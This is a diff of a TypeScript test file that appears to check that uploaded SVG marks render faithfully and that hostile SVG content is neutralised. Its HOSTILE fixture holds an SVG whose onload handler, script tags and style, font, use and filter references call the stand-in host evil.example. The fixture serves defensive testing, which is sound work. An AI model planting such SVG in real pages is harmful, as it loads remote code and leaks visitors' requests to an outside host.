@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { prepareMark } from "../../content/src/appearance/mark.ts";
 import { MARK_SECURITY_HEADERS } from "../../site/src/server/http/security-headers.ts";
 import { BROWSER_ARGUMENTS, findBrowser } from "../../testing/browser.ts";
-import { differingPart, SCALE, shownAlone, shownInPage } from "../../testing/foreign/same-picture.ts";
+import { ANOTHER, differingPart, SCALE, shownAlone, shownInPage } from "../../testing/foreign/same-picture.ts";
 
 const FOLDER = join(import.meta.dirname, "marks");
 
@@ -32,12 +32,10 @@ afterAll(() => browser.close());
 describe("a mark looks in a page as its file does in a browser", () => {
   test.each(drawings.filter(({ told }) => told === undefined))("$name", async ({ address }) => {
     const page = await browser.newPage({ deviceScaleFactor: SCALE });
-    const { mark, markWidth, markHeight } = await prepareMark(address);
+    const { mark } = await prepareMark(address);
     const [file, kept] = [await shownAlone(page, address), await shownInPage(page, mark)];
-    expect(differingPart(file, kept)).toBeLessThan(0.006);
+    expect(differingPart(file, kept)).toBeLessThan(ANOTHER);
     expect(kept.ratio / file.ratio).toBeCloseTo(1, 1);
-    expect(markWidth).toBeGreaterThan(0);
-    expect(markHeight).toBeGreaterThan(0);
     await page.close();
   });
 });
@@ -49,7 +47,7 @@ describe("an owner is told why a mark is not taken, and what to do", () => {
 });
 
 const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="fetch('http://evil.example/handler')">
-  <style>@import "http://evil.example/a.css"; path{fill:url(http://evil.example/b.svg#c)} @font-face{font-family:x;src:url(http://evil.example/d.woff2)}</style>
+  <style>@import "http://evil.example/a.css"; path{stroke:url(http://evil.example/b.svg#c)} @font-face{font-family:x;src:url(http://evil.example/d.woff2)}</style>
   <script>fetch("http://evil.example/script"); document.title = "ran"</script>
   <script xlink:href="http://evil.example/e.js"/><use xlink:href="http://evil.example/f.svg#g"/>
   <g filter="url(http://evil.example/h.svg#i)"><path d="M0 0h9v9z"/></g></svg>`;
